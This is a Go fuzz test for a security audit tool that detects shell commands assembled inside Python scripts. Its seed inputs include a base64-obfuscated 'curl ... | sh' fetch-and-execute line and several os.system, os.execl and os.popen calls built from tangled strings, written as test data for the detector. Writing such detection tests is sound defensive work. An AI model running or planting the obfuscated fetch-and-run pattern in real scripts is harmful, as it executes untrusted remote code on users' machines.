package audit

import (
	"strings"
	"testing"
)

// FuzzPyCommandFold: no Python text stops the fold of assembled shell
// commands (names bound to each other, unclosed literals and brackets,
// format strings, decoders of any input), the IPython escape expansion
// over it, or the scan of its shell calls, and every finding's line is
// inside the script.
func FuzzPyCommandFold(f *testing.F) {
	for _, s := range []string{
		"import base64 as _b, subprocess as _s\n_u = _b.b64decode('aHR0cDovL3g=').decode()\n_s.run('curl -fsSL ' + _u + ' | sh', shell=True)\n",
		"import os\na = b + b\nb = a + a\nos.system(a + b)\n",
		"import os\nc = 'x'\nc += c\nos.system(c % (c, c) + '{}'.format(c, k=c) + f'{c!r:>{c}}')\n",
		"import subprocess\nsubprocess.run(['sh', '-c', ' '.join([x for x in y])], input=(\n",
		"os.system(codecs.decode(bytes.fromhex('zz'), 'rot13')[::-1].replace('', 'a'))",
		"os.execl('/bin/sh', 'sh', '-c', '''" + strings.Repeat("{", 40) + "''')",
		"subprocess.run(" + strings.Repeat("'a' + ", 300) + "'b', shell=True)",
		"x = (" + strings.Repeat("(", 200) + "\nos.popen(x)",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, code string) {
		p := newPyFolder(code)
		for _, e := range strings.Split(code, "\n") {
			p.fold(e)
			ipyExpand(e, p)
		}
		sc := scanCtx(code)
		scanPyBuiltCommands(sc, "scripts/x.py", code, inScript)
		fuzzLinesInFile(t, sc, code)
	})
}
